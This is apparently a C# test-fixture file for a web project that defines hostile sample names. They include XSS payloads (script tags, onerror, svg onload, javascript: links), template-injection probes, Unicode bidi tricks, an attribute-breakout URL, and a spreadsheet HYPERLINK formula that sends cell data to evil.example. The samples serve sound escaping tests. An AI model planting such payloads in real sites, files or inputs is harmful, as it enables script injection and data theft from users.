namespace Turnpike.Web.Tests.Samples;

/// <summary>Names as whoever wants to do harm would choose them. What of them runs sets <c>window.__pwned</c>.</summary>
internal static class Hostile
{
    public const string Name = "</title></script><script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=1\">\"'` javascript:window.__pwned=1 ${{7*7}} \u202Egnp.exe\u202C &lt;b&gt;";

    /// <summary>Turned around to the end of the line, where nothing isolates it; with a space of no width, and a colour of terminals where control characters are taken.</summary>
    public const string Turned = "\u202Eturned \u2066\u200B'\"><svg onload=window.__pwned=1>";

    /// <summary>Of several lines, for spreadsheets and Markdown.</summary>
    public const string Prose = "=HYPERLINK(\"http://evil.example/?\"&A1)\n# Heading\n[link](javascript:window.__pwned=1) ![image](http://evil.example/x.png) <details open ontoggle=window.__pwned=1> | cell | `tick` \u202Eturned";

    /// <summary>An address that is one, and tries to leave its attribute.</summary>
    public const string Url = "https://git.example.com/%22onmouseover=%22window.__pwned=1/'><script>window.__pwned=1</script>?a=1&b=\"2\"";

    public static string Long { get; } = string.Concat(Enumerable.Repeat("very-long-name-without-a-place-to-break-", 125));

    /// <summary>Only as much of it as fits.</summary>
    public static string Of(int length) => (Name + Long)[..length];
}
